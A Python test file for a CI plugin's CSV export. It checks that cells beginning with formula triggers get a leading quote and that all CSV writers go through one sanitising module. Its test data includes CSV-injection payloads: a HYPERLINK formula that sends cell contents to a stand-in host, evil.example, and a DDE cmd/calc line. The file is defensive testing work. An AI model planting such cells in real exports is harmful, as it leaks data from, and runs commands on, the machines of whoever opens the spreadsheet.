"""Issue 8, point 10: no CSV ci-plugin writes lets a spreadsheet run a formula (OWASP's advice:
a cell beginning with =, +, -, @, tab or carriage return gets a leading single quote)."""

import ast
import csv
import io
from pathlib import Path

import pytest

from ci_plugin.cli import render
from ci_plugin.domain.model import Improvement
from tests.unit.cli_desk import cli_desk, improvement  # noqa: F401 (fixture)

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)",
            "\tcmd|' /C calc'!A0", "\r=1+1"]


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_shaped_title_is_neutralised_and_stays_readable(title):
    text = render.csv_text([Improvement(id="7", title=title, state="new", values={"score": -2.5})])
    (row,) = rows(text)
    assert row["title"] == "'" + title
    assert row["score"] == "-2.5"  # a number ci-plugin computed stays a number


def test_plain_cells_are_unchanged():
    text = render.csv_text([Improvement(id="7", title="Cut reset time", state="new",
                                        values={"category": "process", "score": 4})])
    (row,) = rows(text)
    assert (row["id"], row["title"], row["category"], row["score"]) == ("7", "Cut reset time", "process", "4")


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_neutralise_quotes_every_trigger(cell):
    assert render.neutralise(cell) == "'" + cell
    assert render.neutralise("a" + cell) == "a" + cell


def test_register_format_csv_neutralises_titles_from_the_host(run_cli, cli_desk):
    ids = [improvement(cli_desk, "x", title=title) for title in FORMULAS[:4]]
    result = run_cli("register", "--format", "csv")
    assert result.code == 0, result.err
    titles = {row["id"]: row["title"] for row in rows(result.out)}
    assert [titles[i] for i in ids] == ["'" + t for t in FORMULAS[:4]]
    assert not any(cell.startswith(render.FORMULA_TRIGGERS)
                   for row in rows(result.out) for key, cell in row.items() if key not in render.NUMERIC_COLUMNS)


def test_every_csv_writer_of_the_project_goes_through_render():
    """A new CSV output must use render.csv_row (which neutralises): no other module may build a
    csv writer."""
    offenders = []
    for folder in ("ci_plugin", "hooks", "bench", "scripts"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "ci_plugin" / "cli" / "render.py":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
                        and node.attr in ("writer", "DictWriter"):
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
